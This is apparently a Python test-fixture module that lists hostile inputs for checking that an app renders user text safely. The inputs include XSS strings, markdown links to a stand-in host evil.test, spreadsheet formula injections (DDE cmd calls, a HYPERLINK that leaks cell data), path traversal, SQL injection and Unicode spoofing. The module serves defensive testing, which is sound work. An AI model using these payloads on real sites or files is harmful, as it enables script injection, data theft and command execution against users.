"""Foreign texts that mean harm: each would do something if any place took it for more than text.

What they would do shows: a dialog opens, `window.pwned` is set, a request goes to SITE, or an
element stands in the page that nobody of ours put there.
"""

from dataclasses import dataclass

from slm.errors import WorkspaceError
from slm.workspace import clean_name

SITE = "evil.test"


@dataclass(frozen=True)
class Payload:
    """A text, and what it tries."""

    what: str
    text: str

    @property
    def is_name(self) -> bool:
        """Whether an artefact can be called so."""
        try:
            return clean_name(self.text) == self.text
        except WorkspaceError:
            return False


def _payloads(**texts: str) -> tuple[Payload, ...]:
    return tuple(Payload(what.replace("_", " "), text) for what, text in texts.items())


MARKUP = _payloads(
    script="<script>window.pwned=1;alert(1)</script>",
    image="<img src=//evil.test/i onerror=alert(1)>",
    broken_image="<img src=x onerror=window.pwned=1>",
    svg="<svg onload=alert(1)></svg>",
    svg_script="<svg><script>alert(1)</script></svg>",
    link='<a href="javascript:alert(1)">go</a>',
    frame='<iframe src="//evil.test/f"></iframe>',
    frame_of_text='<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    style="<style>*{display:none}</style>",
    style_of_a_site="<link rel=stylesheet href=//evil.test/c.css>",
    moving_on='<meta http-equiv=refresh content="0;url=//evil.test/m">',
    form="<form action=//evil.test/><button>x</button></form>",
    out_of_an_attribute='"><img src=x onerror=alert(1)>',
    out_of_a_quote="'-alert(1)-'",
    out_of_a_script="</script><script>alert(1)</script>",
    out_of_a_title="</title><img src=x onerror=alert(1)>",
    out_of_a_field="</textarea></pre><script>alert(1)</script>",
    opening="<details open ontoggle=alert(1)>x</details>",
    base="<base href=//evil.test/>",
    video="<video><source onerror=alert(1)></video>",
    half_a_tag="<img src=//evil.test/h onerror=alert(1) ",
    odd_case="<ScRiPt>alert(1)</sCrIpT>",
    entities="&lt;b&gt; &amp; &#60;script&#62; &colon;",
    comment="<!-- x --><b>y</b><![CDATA[z]]>",
    template="{{7*7}} ${7*7} <%= 7*7 %> {alert(1)}",
)
MARKDOWN = _payloads(
    picture="![x](https://evil.test/p.png)",
    picture_by_name="![x][evil]",
    link_in_brackets="[click](https://evil.test/)",
    script_in_brackets="[click](javascript:alert(1))",
    data_link="[d](data:text/html,<script>alert(1)</script>)",
    bare_link="https://evil.test/auto",
    link_in_angles="<https://evil.test/angle>",
    bare_name="www.evil.test/www",
    address_of_mail="write to a@evil.test now",
    bold="**bold** __bold__ *em* ~~gone~~",
    code="`code` ``a`b``",
    title="# Title",
    list_item="- item",
    numbered="1. item",
    task="- [x] done",
    quote="> quoted",
    table="| a | b |",
    reference="[evil]: https://evil.test/r",
    footnote="x[^1] [^1]: y",
    backslashes=r"\*not\* \\(x\\) C:\new",
    formula=r"$\frac{1}{2}$ and $$x^2$$",
    formula_with_a_link=r"$\href{javascript:alert(1)}{x}$",
    money="$5 to $10",
    red=":red[red] :blue-background[b] :rainbow[r]",
    badge=":blue-badge[new] :small[s]",
    icon=":material/home: and :material_home:",
    emoji=":smile: :+1: :streamlit:",
    arrows="a -> b <- c <-> d -- e >= f <= g ~= h",
)
CHARTS = _payloads(
    chart_markup='<b>bold</b> <a href="https://evil.test/c">x</a>',
    chart_breaks="one<br>two<br>three",
    chart_style='<span style="font-size:90px">x</span>',
    chart_values="%{x} %{customdata[0]}<extra></extra>",
    chart_scripts="<sup>up</sup> <sub>down</sub>",
    chart_fields="datum.x + signal['a'] b\\.c[0]",
)
SHEETS = _payloads(
    formula_of_a_sheet='=HYPERLINK("https://evil.test/?"&A1)',
    program="+cmd|' /C calc'!A0",
    function="@SUM(1+1)*cmd",
    minus="-2+3+cmd|' /C calc'!A0",
    comma='a,b";"c',
)
OTHERS = _payloads(
    css="x;background:url(//evil.test/b)",
    expression="expression(alert(1))",
    climbing="../../etc/passwd",
    device="C:\\CON",
    escaped_path="%2e%2e%2f%00",
    sql="'; DROP TABLE runs;--",
    right_to_left="שלום <b>x</b>",
    stacked="Z\u0351\u036b\u0343\u0327a\u0312\u0308l\u0358g\u0327o",
    emoji_of_parts="👩‍👩‍👧 🏳️‍🌈",
)
NOT_NAMES = _payloads(
    turned_around="abc\u202e<gpj.exe>\u202c def",
    isolated="\u2066<b>x</b>\u2069 \u200fy",
    zero_width="a\u200bb\u200d\u2060c\ufeffd",
    ansi="\x1b[31mred\x1b[0m\x1b]0;title\x07",
    controls="a\x00b\x01c\x7fd\x85e",
    separators="a\u2028b\u2029c",
    half_a_pair="half \ud83e of a fox",
    not_a_character="x\ufffe\uffff",
    lines="first\n\n    code\n\n# Title\n\n---\n<b>x</b>",
    sheet_tab='\t=HYPERLINK("https://evil.test/")',
    very_long="<b>" + "x" * 20_000 + "![x](https://evil.test/l.png)",
)
PAYLOADS = (*MARKUP, *MARKDOWN, *CHARTS, *SHEETS, *OTHERS, *NOT_NAMES)
NAMES = tuple(payload for payload in PAYLOADS if payload.is_name)
